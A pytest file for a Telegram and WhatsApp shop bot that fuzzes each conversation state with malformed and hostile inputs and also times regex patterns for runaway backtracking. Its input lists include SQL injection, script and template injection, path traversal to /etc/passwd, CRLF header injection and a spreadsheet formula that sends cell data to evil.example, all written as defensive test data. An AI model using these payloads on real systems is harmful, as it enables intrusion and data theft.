"""The nastiest things people type, paste and send, in every state of a talk, on both channels."""

import importlib
import os
import pkgutil
import re
import time
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select, update

from bots.hub import Simulated
from storefront import reading
from storefront.models import Conversation, Identity, InboxMessage, Order, OrderLine, Person, Product, Variant
from storefront.reading import areas, captions, destinations, lists, messages, noise, orders, prices, times, words
from storefront.reading.shelf import Ware
from tests.attacks.common import arrives, calm, inbound, on_whatsapp, posted
from tests.conftest import JAKARTA, OPEN_SHOP, START, tell

FAMILY = "👨‍👩‍👧‍👦"
LONGEST = 4_096
EXAMPLES = 200 if os.environ.get("GETOK_TEST_ALL") else 8

# -- the states of a talk ----------------------------------------------------------------------------

STATES = {
    "no question": "penny@{c} says: halo",
    "how many": "penny@{c} opens: $link",
    "brought or picked up": "penny@{c} opens: $link\npenny@{c} says: 2",
    "the address": "penny@{c} opens: $link\npenny@{c} says: 2\npenny@{c} taps: Antar",
    "the house": "penny@{c} opens: $link\npenny@{c} says: 2\npenny@{c} taps: Antar\npenny@{c} says: griya asri",
    "the shop's name": "penny@{c} says: mulai jualan",
    "the shop's place and fees": "penny@{c} says: mulai jualan\npenny@{c} says: Dapur Penny",
    "the account": "penny@{c} says: mulai jualan\npenny@{c} says: Dapur Penny\npenny@{c} says: griya asri depok",
    "the payment": "penny@{c} opens: $link\npenny@{c} says: 2, antar griya asri C2/5, Penny",
    "a last word": "penny@{c} says: hapus data saya",
}

NASTY = {
    "an underscore in a number": "1_000",
    "Arabic digits": "١٢",
    "full-width digits": "１２",
    "a superscript": "²",
    "a superscript and words": "² keju",
    "a circled number": "③",
    "a Roman numeral": "Ⅷ",
    "a fraction": "½",
    "a Thai digit behind a word": "keju ๓",
    "minus one, as typeset": "−1",
    "minus one": "-1",
    "nothing": "0",
    "plus five": "+5",
    "five and nothing to see": "5\u200b",
    "scientific": "1e3",
    "hexadecimal": "0x10",
    "four thousand nines": "9" * LONGEST,
    "two to the sixty-third": "9223372036854775808",
    "not a number": "NaN",
    "infinity": "Infinity",
    "a huge exponent": "1E+999999",
    "HTML": '</b><a href="tg://resolve?domain=evil">Pay here</a><script>alert(1)</script>',
    "broken HTML": "<b><i>x</b> &amp &#x; &lt <tg-spoiler",
    "MarkdownV2": "_ * [ ] ( ) ~ ` > # + - = | { } . ! ``` \\",
    "templates": "{{7*7}} ${7*7} <%=7*7%> {% include '/etc/passwd' %}",
    "formats": "%s%s%n {0.__class__} {kak} {product} %(name)s {",
    "SQL": "%' OR '1'='1' --",
    "more SQL": "'; DROP TABLE orders;--",
    "a LIKE": "%%%%____",
    "a formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "right to left": "invoice\u202egnp.exe \u2066\u2069",
    "marks": "e" + "\u0301" * 4_000,
    "families": FAMILY * (LONGEST // len(FAMILY)),
    "flags": "🇮🇩" * 500,
    "a NUL": "a\x00b",
    "controls": "".join(map(chr, range(1, 32))) + "x",
    "nothing to see": "\u200b\u200b",
    "spaces": "   \n\t  ",
    "an empty Hangul": "\u3164",
    "private letters": "\ue000\uf8ff",
    "no letters at all": "\ufffe\uffff",
    "lines": "\n" * 2_000 + "x",
    "one long word": "x" * LONGEST,
    "long words": "brownies " * 450,
    "a link": "https://evil.example/%0d%0aSet-Cookie:x=1",
    "a path": "../../../../etc/passwd",
    "CR and LF": "ha\r\nlo\r\n",
    "dots": "." * LONGEST,
    "a Greek question": "berapa\u037e",
    "a long s": "ſtop",
    "a dotless i": "batalın",
    "a Kelvin": "Kopi K",
    "JSON": '{"update_id": 1, "qty": [1], "a": {"a": {}}}',
    "a button's data": "d:money_arrived:1:aaaaaa~aaaaaaaaaaaa",
    "an order that is nobody's": "cek 9999",
    "an order of many digits": "cek 999999",
    "a fee": "ongkir ZZ-0001 10rb",
    "a code of nobody": "kode ZZZZ9",
    "a reference to nothing": "(undangan " + "x" * 80 + ")",
    "a product with letters": "(produk DR²)",
    "a place that is words": "pin 999,999",
    "a time": "kamis jam 99",
    "a date": "31/2/2026 jam 25.61",
    "a rate": "10,99999%",
    "an account": "bca 0000000000000000000000000 an X",
}


def in_state(hub: Simulated, state: str, channel: str) -> dict[str, Any]:
    """Bring Penny into a state; what is remembered of it comes back, to be put back after each input."""
    player = tell(hub, OPEN_SHOP)
    tell(hub, STATES[state].format(c=channel), **player.kept)
    return remembered(hub, channel)


def identity_of(channel: str) -> Any:
    return select(func.max(Identity.id)).where(Identity.channel == channel).scalar_subquery()


def remembered(hub: Simulated, channel: str) -> dict[str, Any]:
    with hub.database.read() as db:
        talk = db.scalars(select(Conversation).where(Conversation.identity_id == identity_of(channel))).one()
        names = ("shop_id", "script", "args", "asked", "answers", "drafts")
        return {name: getattr(talk, name) for name in names}


def put_back(hub: Simulated, channel: str, talk: dict[str, Any]) -> None:
    with hub.database.write() as db:
        mine = select(func.max(Identity.id)).where(Identity.channel == channel)
        db.execute(update(Conversation).where(Conversation.identity_id == mine.scalar_subquery()).values(**talk))


def answered(hub: Simulated, channel: str, say: Callable[[], object]) -> bool:
    """Whether somebody who does this is told anything."""
    before = hub.phones.sent_to("penny", channel)
    say()
    hub.settle()
    return hub.phones.sent_to("penny", channel) > before


def unfinished(hub: Simulated) -> int:
    with hub.database.read() as db:
        return db.scalar(select(func.count()).select_from(InboxMessage).where(InboxMessage.done_at.is_(None))) or 0


def walk(hub: Simulated, channel: str, talk: dict[str, Any], said: dict[str, Callable[[], object]]) -> None:
    """Do each of these things in the same state; every one is answered, and none of them is a mistake of ours."""
    silent: list[str] = []
    for name, say in said.items():
        put_back(hub, channel, talk)
        with calm():
            silent += [] if answered(hub, channel, say) else [name]
        assert unfinished(hub) == 0, name
    assert silent == []
    assert hub.verdict() == []


ON_BOTH = ["no question", "how many", "the address", "the payment"]
WALKED = [(state, "telegram") for state in STATES] + [(state, "whatsapp") for state in ON_BOTH]


@pytest.mark.parametrize(("state", "channel"), WALKED)
def test_nasty_words_in_every_state(hub: Simulated, state: str, channel: str) -> None:
    talk = in_state(hub, state, channel)
    phone = hub.phones.on(channel)

    walk(hub, channel, talk, {name: (lambda text=text: phone.says("penny", text)) for name, text in NASTY.items()})


# -- things that are no words ------------------------------------------------------------------------

FILE = {"file_id": "x", "file_unique_id": "y", "file_size": 100}
SHAPE = {**FILE, "width": 100, "height": 100, "duration": 1}
CHAT = {"id": 7001, "type": "private", "first_name": "Rina"}
KINDS: dict[str, dict[str, Any]] = {
    "sticker": {
        "sticker": {**FILE, "type": "regular", "width": 1, "height": 1, "is_animated": True, "is_video": False}
    },
    "voice": {"voice": {**FILE, "duration": 3}},
    "audio": {"audio": {**FILE, "duration": 3, "title": "<b>x"}},
    "video": {"video": SHAPE, "caption": "brownies 65rb"},
    "video note": {"video_note": {**FILE, "length": 1, "duration": 1}},
    "animation": {"animation": SHAPE, "document": {**FILE, "mime_type": "video/mp4"}},
    "document": {"document": {**FILE, "file_name": "../../x.pdf", "mime_type": "application/pdf"}},
    "document without a type": {"document": FILE},
    "poll": {
        "poll": {
            "id": "1",
            "question": "Mau?",
            "options": [{"text": "Ya", "voter_count": 0, "persistent_id": "1"}],
            "total_voter_count": 0,
            "is_closed": False,
            "is_anonymous": True,
            "type": "regular",
            "allows_multiple_answers": False,
            "allows_revoting": False,
            "members_only": False,
        }
    },
    "dice": {"dice": {"emoji": "🎲", "value": 6}},
    "game": {"game": {"title": "x", "description": "y", "photo": [{**FILE, "width": 1, "height": 1}]}},
    "contact": {"contact": {"phone_number": "+62", "first_name": "x", "vcard": "BEGIN:VCARD"}},
    "place": {"location": {"latitude": -6.4, "longitude": 106.8}},
    "moving place": {"location": {"latitude": -6.4, "longitude": 106.8, "live_period": 60, "heading": 1}},
    "place at the pole": {"location": {"latitude": 90.0, "longitude": 180.0}},
    "venue": {
        "location": {"latitude": 1, "longitude": 2},
        "venue": {"location": {"latitude": 1, "longitude": 2}, "title": "<b>", "address": "x"},
    },
    "story": {"story": {"chat": CHAT, "id": 1}},
    "no words": {},
    "empty words": {"text": ""},
    "pinned": {"pinned_message": {"message_id": 1, "date": 0, "chat": CHAT}},
    "new members": {"new_chat_members": [{"id": 5, "is_bot": False, "first_name": "x"}]},
    "a forwarded word": {
        "text": "2",
        "forward_origin": {"type": "hidden_user", "sender_user_name": "<b>", "date": int(START.timestamp())},
    },
    "a word by way of a bot": {"text": "2", "via_bot": {"id": 8, "is_bot": True, "first_name": "other"}},
    "a quoted word": {"text": "2", "quote": {"text": "x", "position": 0}},
    "something new": {"hologram": {"file_id": "z"}},
    "a gift": {"gift": {"gift": {}}},
    "a spoiler": {"text": "2", "entities": [{"type": "spoiler", "offset": 0, "length": 1}]},
    "entities out of bounds": {"text": "2", "entities": [{"type": "bold", "offset": 50, "length": 999}]},
}
GONE_FILE = {"photo": [{**FILE, "width": 10, "height": 10}]}
KINDS["a photo that is gone"] = GONE_FILE
KINDS["a photo of an album"] = {**GONE_FILE, "media_group_id": "1", "caption": "brownies 65rb"}
KINDS["a huge photo"] = {"photo": [{**FILE, "width": 10, "height": 10, "file_size": 30_000_000}]}
KINDS["a picture as a file that is gone"] = {"document": {**FILE, "mime_type": "image/png"}}


@pytest.mark.parametrize("state", ["no question", "how many", "the address", "the shop's name", "the payment"])
def test_every_kind_of_message_on_telegram(hub: Simulated, state: str) -> None:
    talk = in_state(hub, state, "telegram")

    walk(
        hub,
        "telegram",
        talk,
        {name: (lambda sent=sent: arrives(hub, "penny", sent)) for name, sent in KINDS.items()},
    )


def with_media(kind: str, mime: str) -> dict[str, str]:
    at = "https://api.twilio.com/2010-04-01/Accounts/AC/Messages/MM/Media/ME"
    return {"NumMedia": "1", "MediaUrl0": at, "MediaContentType0": mime, "MessageType": kind, "Body": ""}


FORMS: dict[str, dict[str, str]] = {
    "sticker": with_media("sticker", "image/webp"),
    "voice": with_media("audio", "audio/ogg"),
    "video": with_media("video", "video/mp4"),
    "document": with_media("document", "application/pdf"),
    "contact": with_media("contacts", "text/vcard"),
    "a page": with_media("document", "text/html"),
    "SVG": with_media("document", "application/svg+xml"),
    "a type of many lines": with_media("document", "text/html\r\nX: y"),
    "place": {"Latitude": "-6.4", "Longitude": "106.8", "Body": "", "MessageType": "location", "Address": "<b>"},
    "nothing": {"Body": "", "MessageType": "unsupported"},
    "a reaction": {"Body": "👍", "MessageType": "reaction", "OriginalRepliedMessageSid": "SM1"},
    "a button": {"ButtonText": "Menu", "ButtonPayload": "x", "Body": "Menu"},
    "a list": {"ListId": "1", "ListTitle": "x", "Body": "x"},
    "from an advertisement": {"ReferralBody": "<b>x", "ReferralSourceUrl": "http://evil.example", "Body": "halo"},
}


@pytest.mark.parametrize("state", ["no question", "how many", "the address", "the shop's name", "the payment"])
def test_every_kind_of_message_on_whatsapp(hub: Simulated, state: str) -> None:
    talk = in_state(hub, state, "whatsapp")
    person = hub.phones.whatsapp.person("penny")
    who = {"From": person.address, "WaId": person.number[1:], "ExternalUserId": external(hub)}

    walk(
        hub,
        "whatsapp",
        talk,
        {name: (lambda form=form: posted(hub, inbound(**who, **form))) for name, form in FORMS.items()},
    )


def external(hub: Simulated) -> str:
    with hub.database.read() as db:
        found = select(Identity.external_id).where(Identity.channel == "whatsapp").order_by(Identity.id.desc())
        return db.scalars(found).first() or ""


@pytest.mark.parametrize("odd", [{"poll": {"id": "1"}}, {"sticker": {}}, {"photo": [{}]}, {"dice": {"value": "six"}}])
def test_an_update_the_library_cannot_read_does_not_make_us_deaf(hub: Simulated, odd: dict[str, Any]) -> None:
    tell(hub, "penny@telegram says: halo")

    with calm():
        assert answered(hub, "telegram", lambda: [arrives(hub, "penny", odd), arrives(hub, "penny", {"text": "menu"})])


# -- half a sign -------------------------------------------------------------------------------------


HALVES = {
    "words": {"text": "halo \ud83d"},
    "words that are an answer": {"text": "griya asri C2/5 \ud83d, an Sari\udc00"},
    "a caption": {**GONE_FILE, "caption": "\ud83d"},
    "a start": {"text": "/start \ud83d"},
}


@pytest.mark.both
@pytest.mark.parametrize("state", ["no question", "the address", "the shop's name", "the shop's place and fees"])
def test_half_a_sign_does_not_hold_up_the_queue(hub: Simulated, state: str) -> None:
    """JSON can say half of an emoji; a database cannot keep it."""
    talk = in_state(hub, state, "telegram")

    walk(
        hub, "telegram", talk, {name: (lambda sent=sent: arrives(hub, "penny", sent)) for name, sent in HALVES.items()}
    )


@pytest.mark.both
@pytest.mark.parametrize("name", ["\ud83d", "Sa\udc00ri", "a\x00b"])
def test_half_a_sign_in_a_name(hub: Simulated, name: str) -> None:
    person = hub.phones.telegram.person("penny")
    sender = {**person.user(), "first_name": name}
    person.user = lambda: sender  # type: ignore[method-assign]

    with calm():
        assert answered(hub, "telegram", lambda: arrives(hub, "penny", {"text": "halo"}))
    assert unfinished(hub) == 0


@pytest.mark.both
@pytest.mark.parametrize("channel", ["telegram", "whatsapp"])
def test_a_nul_goes_through(hub: Simulated, channel: str) -> None:
    """PostgreSQL keeps no NUL in its words."""
    player = tell(hub, OPEN_SHOP)
    tell(hub, f"penny@{channel} opens: $link", **player.kept)

    with calm():
        for text in ("a\x00b", "2, antar griya asri C2/5\x00, an Pen\x00ny", "menu\x00"):
            assert answered(hub, channel, lambda text=text: hub.phones.on(channel).says("penny", text)), text
    assert unfinished(hub) == 0


@pytest.mark.both
@pytest.mark.parametrize("payload", ["s_\x00", "s_a\x00b", "i_\x00", "\x00", "p_\x00"])
def test_a_nul_behind_start(hub: Simulated, payload: str) -> None:
    tell(hub, "penny@telegram says: halo")

    with calm():
        assert answered(hub, "telegram", lambda: arrives(hub, "penny", {"text": f"/start {payload}"}))
    assert unfinished(hub) == 0


# -- quantities --------------------------------------------------------------------------------------

ASKED_AGAIN = [
    *("1_000", "²", "−1", "-1", "0", "1e3", "0x10", "9" * 4_000, "9223372036854775808", "NaN", "1000", "99999", "١٢"),
    *("½", "③ keju", "2²", "² keju", "Ⅷ", "1/0", "2 keju -1", "1.5", "2,5", "1.000", "nol", "dua puluh satu juta"),
]


def bought(hub: Simulated) -> list[int]:
    with hub.database.read() as db:
        return list(db.scalars(select(OrderLine.quantity)))


@pytest.mark.parametrize("channel", ["telegram", "whatsapp"])
def test_a_quantity_that_is_none_is_asked_again(hub: Simulated, channel: str) -> None:
    talk = in_state(hub, "how many", channel)
    taken: list[str] = []

    for text in ASKED_AGAIN:
        put_back(hub, channel, talk)
        with calm():
            assert answered(hub, channel, lambda text=text: hub.phones.on(channel).says("penny", text)), text
        after = remembered(hub, channel)
        taken += [] if (after["script"], after["asked"], after["answers"]) == ("buying", "order", {}) else [text[:20]]

    assert taken == []
    assert bought(hub) == []


@pytest.mark.parametrize(("text", "quantity"), [("１２", 12), ("5\u200b", 5), ("2️⃣", 2), ("satu", 1), ("２", 2)])
def test_a_quantity_in_other_digits_is_one(hub: Simulated, text: str, quantity: int) -> None:
    player = tell(hub, OPEN_SHOP)

    tell(
        hub,
        f"""
        penny@telegram opens: $link
        penny@telegram says: {text}
        penny@telegram taps: Ambil
        """,
        **player.kept,
    )

    assert bought(hub) == [quantity]


# -- prices ------------------------------------------------------------------------------------------

NO_PRICE = ["NaN", "Infinity", "1E+999999", "1e-30", "-0", "0", "-5000", "²", "9" * 400, "Rp", "rb", "99999999999999rb"]


@pytest.mark.parametrize("text", NO_PRICE)
def test_a_price_that_is_none_is_asked_again(hub: Simulated, text: str) -> None:
    tell(hub, OPEN_SHOP + "rina@telegram sends photo: brownies.jpg | Donat Kentang")

    with calm():
        hub.phones.telegram.says("rina", text)
        hub.settle()

    with hub.database.read() as db:
        talk = db.scalars(select(Conversation).where(Conversation.script == "listing")).one()
        assert talk.asked == "price"
        assert db.scalar(select(func.count()).select_from(Variant)) == 1


@pytest.mark.parametrize(("text", "price"), [("10.000", 10_000), ("Rp10.000,-", 10_000), ("１０rb", 10_000)])
def test_a_price_is_read_back_before_anything_is_sold(hub: Simulated, text: str, price: int) -> None:
    tell(hub, OPEN_SHOP + "rina@telegram sends photo: brownies.jpg | Donat Kentang")

    tell(hub, f"rina@telegram says: {text}\nrina@telegram sees: Rp10.000\nrina@telegram taps: Tayangkan")

    with hub.database.read() as db:
        donat = select(Product.id).where(Product.name.like("Donat%")).scalar_subquery()
        assert db.scalars(select(Variant.price).where(Variant.product_id == donat)).all() == [price]


# -- starting and stopping ---------------------------------------------------------------------------

STARTS = [
    "/start",
    "/start@otherbot",
    "/start@getok_of_the_simulator_and_nobody_else",
    "/start ref_ЅALE10",
    "/start " + "A" * 64,
    "/start " + "A" * 4_000,
    "/start p_DR²",
    "/start p_DR9999",
    "/start p_",
    "/start s_",
    "/start i_x",
    "/start i_" + "x" * 62,
    "/start _",
    "/start __",
    "/start \n",
    "/START",
    "/start DEWI7 OR 1=1",
    "/start {{7*7}}",
    "/start <b>",
    "/start %s",
    "/startx",
    "//start",
    "/",
    "/menu@",
    "/batal",
    "/" + "a" * 4_000,
]


@pytest.mark.parametrize("state", ["no question", "how many", "the address", "the shop's name"])
def test_every_start(hub: Simulated, state: str) -> None:
    talk = in_state(hub, state, "telegram")

    walk(
        hub,
        "telegram",
        talk,
        {text[:40]: (lambda text=text: arrives(hub, "penny", {"text": text})) for text in STARTS},
    )


def test_fifty_starts_at_once(hub: Simulated) -> None:
    tell(hub, "penny@telegram says: halo")

    with calm():
        for _ in range(50):
            hub.phones.telegram.starts("penny")
        hub.settle()

    assert unfinished(hub) == 0
    assert hub.verdict() == []


def wants(hub: Simulated) -> bool | None:
    with hub.database.read() as db:
        return db.scalar(select(Person.wants_promotion).order_by(Person.id.desc()).limit(1))


STOPS = ["STOP", "stop.", "Stop!!", "BERHENTI", "berhenti ya kak", "Stop 🙏", "  stop  ", "ＳＴＯＰ", "unsubscribe"]


@pytest.mark.parametrize("channel", ["telegram", "whatsapp"])
@pytest.mark.parametrize("state", ["no question", "how many", "the address", "the shop's name", "the account"])
def test_stop_means_stop_in_every_state(hub: Simulated, state: str, channel: str) -> None:
    talk = in_state(hub, state, channel)
    for text in STOPS:
        put_back(hub, channel, talk)
        with hub.database.write() as db:
            db.execute(update(Person).values(wants_promotion=True))

        assert answered(hub, channel, lambda text=text: hub.phones.on(channel).says("penny", text)), text

        assert wants(hub) is False, text
        assert remembered(hub, channel)["asked"] == talk["asked"], f"{text}: the question is gone"


@pytest.mark.parametrize("channel", ["telegram", "whatsapp"])
@pytest.mark.parametrize("text", ["START", "start", "mulai", "MULAI!", "Mulai lagi"])
def test_start_means_start_again(hub: Simulated, text: str, channel: str) -> None:
    tell(hub, f"penny@{channel} says: halo\npenny@{channel} says: STOP")
    assert wants(hub) is False

    tell(hub, f"penny@{channel} says: {text}")

    assert wants(hub) is True


def test_stopped_is_not_deaf(hub: Simulated) -> None:
    player = tell(hub, OPEN_SHOP + "penny@whatsapp says: STOP")

    tell(
        hub,
        "penny@whatsapp opens: $link\npenny@whatsapp says: 1, antar griya asri C2/5, Penny, qris\n"
        "penny@whatsapp sees: DR-0001",
        **player.kept,
    )


# -- names from the channel --------------------------------------------------------------------------

NAMES = [
    '</b><a href="tg://resolve?domain=evil">Pay</a>',
    "Sari\n\n1. Uang masuk\n2. Kirim",
    "\u202egnp.exe",
    "e" + "\u0301" * 5_000,
    FAMILY * 100,
    "{0.__class__} %s",
    "",
    "   ",
    "\u200b",
    "*LUNAS* _x_ ~y~ ```z```",
]


@pytest.mark.parametrize("name", NAMES, ids=lambda name: ascii(name)[:30])
def test_a_name_arrives_on_one_line_without_what_nobody_sees(hub: Simulated, name: str) -> None:
    player = tell(hub, OPEN_SHOP)
    on_whatsapp(hub)
    who = {"ProfileName": name}
    reference = player.kept["link"].rpartition("/")[2]

    with calm():
        posted(hub, inbound(**who, Body=f"Mau Brownies dari Dapur Rina (produk {reference})"))
        posted(hub, inbound(**who, Body="1, antar griya asri C2/5, qris"))
        posted(hub, inbound(**who, Body="sudah"))

    told = hub.phones.bubbles("rina", "telegram")[-1].text
    assert "DR-0001" in told
    assert not re.search(r"[\u202a-\u202e\u2066-\u2069\u200b]", told)
    assert "\n\n1. Uang masuk" not in told
    assert "\u0301" * 70 not in told


# -- time --------------------------------------------------------------------------------------------

NOW = START
PLACES = ["Griya Asri", "Depok"]
WARES = (Ware(1, "Brownies Kukus", 45_000, "loyang", ("coklat", "keju")), Ware(2, "Nastar", 85_000, "toples"))
READERS: dict[str, Callable[[str], object]] = {
    "order": lambda text: orders.read_order(text, ["polos", "keju"], PLACES, "Brownies Kukus"),
    "address": lambda text: orders.read_address(text, PLACES),
    "caption": lambda text: captions.read_caption(text, NOW, JAKARTA),
    "message": lambda text: messages.read_message(text, WARES),
    "list": lambda text: lists.read_list(f"1. a 2\n2. b 1\n3. {text}", WARES),
    "entry": lambda text: lists.read_entry(text, WARES),
    "change": lambda text: captions.read_change(text, NOW, JAKARTA),
    "shop": areas.read_shop,
    "place": areas.read_place,
    "area": lambda text: areas.match_area(text, [areas.Area("RT 04", "rt", 0), areas.Area("Griya Asri", "complex", 5)]),
    "prices": prices.find_prices,
    "fee": prices.read_fee,
    "moment": lambda text: times.read_moment(text, NOW, JAKARTA),
    "day": lambda text: times.read_day(text, NOW, JAKARTA),
    "account": destinations.read_destination,
    "command": words.command,
    "numbered": words.numbered,
    "fee answer": words.read_fee_answer,
    "safety": words.safety,
    "yes": words.yes,
    "no": words.no,
    "code": words.referral_code,
    "word after code": words.word_after_code,
    "reference": words.reference,
    "order's code": words.code_of_order,
    "plain": noise.plain,
    "bunda": noise.calls_herself_bunda,
}
UNITS = [
    *("9", " ", ".", ",", "rb ", "1.1.1.1", "1,", "a@", "1 rb", "rp", "Rp1.", "0 ", "08 ", "62-", "ke ", "2 ke a"),
    *("rt 1 ", "rt", "no.", "an ", "a.n. ", "blok ", "jl. ", "c2/5 ", "kode a", "kode ", "(kode ", "(undangan x"),
    *("po tutup ", "tutup kamis jam 8 ", "kamis ", "18/6 ", "1/1/", "jam 8.", "8 ", "malam ", "max 1 ", "rasa a, b+"),
    *("gratis ", "gosend ", "komplek ", "dari ", "mual ", "tidak basi ", "basi? ", "ya ", "kak ", "🎂", "((((", "))))"),
    *("-+-", "«»", "\n", "a\n", "İ", "ﬃ", "e\u0301", "2 keju ", "keju 2 ", "lusin ", "1/2", "⁄1", "'a", "a'", "bca 1 "),
    *("a", ",", "1 ", "an a ", "/", "aa1 ", "+1", "di ", "dekat ", "bayar ", "rasa ", "\u200b", "ﷺ", "antar ", "keju "),
]


QUICK = 0.05  # seconds


def cpu_of(read: Callable[[str], object], text: str) -> float:
    """Seconds of our own work, the best of three; what was quick once is quick."""
    best = float("inf")
    for _ in range(3):
        began = time.process_time()
        read(text)
        best = min(best, time.process_time() - began)
        if best < QUICK:
            break
    return best


def grows_too_fast(read: Callable[[str], object], unit: str, longest: int = LONGEST) -> bool:
    """Whether ten times as much text takes as long as it would if every sign were laid beside every other.

    Ten times is what it should be, and a hundred what must not be: a machine busy with other things shifts the one or
    the other by a half at most, and is asked three times.
    """
    return all(growth(read, unit, longest) > 40 for _ in range(3))


def growth(read: Callable[[str], object], unit: str, longest: int) -> float:
    """How many times longer ten times as much takes; what is done in a few milliseconds has not grown."""
    large = cpu_of(read, (unit * longest)[:longest])
    if large < QUICK:
        return 0.0
    return large / max(cpu_of(read, (unit * longest)[: longest // 10]), 0.0002)


@pytest.mark.parametrize("name", READERS)
def test_reading_grows_no_faster_than_the_text(name: str) -> None:
    assert [unit for unit in UNITS if grows_too_fast(READERS[name], unit)] == []


SIGNS = "019 .,-/+()@arbpktnoè\n':x"


@settings(max_examples=EXAMPLES, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))
@given(before=st.text(SIGNS, max_size=4), unit=st.text(SIGNS, min_size=1, max_size=6), after=st.text(SIGNS, max_size=2))
def test_no_reader_stumbles_over_anything(before: str, unit: str, after: str) -> None:
    for name, read in READERS.items():
        text = (before + unit * LONGEST)[: LONGEST - len(after)] + after
        took = cpu_of(read, text)
        assert took < QUICK or not grows_too_fast(read, unit), name


@settings(max_examples=150, deadline=None, derandomize=True)
@given(text=st.text(max_size=60))
def test_no_reader_fails_over_anything(text: str) -> None:
    for read in READERS.values():
        read(text)


def patterns() -> Iterator[tuple[str, re.Pattern[str]]]:
    """Every compiled pattern a message's text can reach."""
    names = [f"storefront.reading.{found.name}" for found in pkgutil.iter_modules(reading.__path__)]
    more = [
        "bots.meaning",
        "bots.taps",
        "bots.telegram",
        "bots.buttons",
        "bots.counter.buyer",
        "bots.counter.everybody",
    ]
    for name in [*names, *more, "bots.scripts.small", "bots.scripts.listing", "referral.codes"]:
        for called, found in vars(importlib.import_module(name)).items():
            if isinstance(found, re.Pattern):
                yield f"{name}.{called}", found


PATTERNS = dict(patterns())
AT_MOST = noise.LONGEST  # readers see no more of a text than this


@pytest.mark.parametrize("name", PATTERNS)
def test_a_pattern_grows_no_faster_than_the_text(name: str) -> None:
    """A pattern that tries again at every sign for every sign is slow for somebody who knows."""
    pattern = PATTERNS[name]

    def search(text: str) -> int:
        seen = noise.clean(text)  # no reader looks at anything else
        return sum(1 for _ in pattern.finditer(seen)) + bool(pattern.fullmatch(seen)) + bool(pattern.match(seen))

    assert [unit for unit in UNITS if grows_too_fast(search, unit, AT_MOST)] == []


def test_there_are_patterns_to_time() -> None:
    assert len(PATTERNS) > 50


def test_the_clock_of_these_tests_finds_a_slow_pattern() -> None:
    """Else all the above would prove nothing."""
    slow = re.compile(r"\d+x")

    assert grows_too_fast(slow.search, "9", 10_000)


def test_nobody_ordered_anything_by_accident(hub: Simulated) -> None:
    in_state(hub, "how many", "telegram")

    with hub.database.read() as db:
        assert db.scalars(select(Order.code)).all() == []
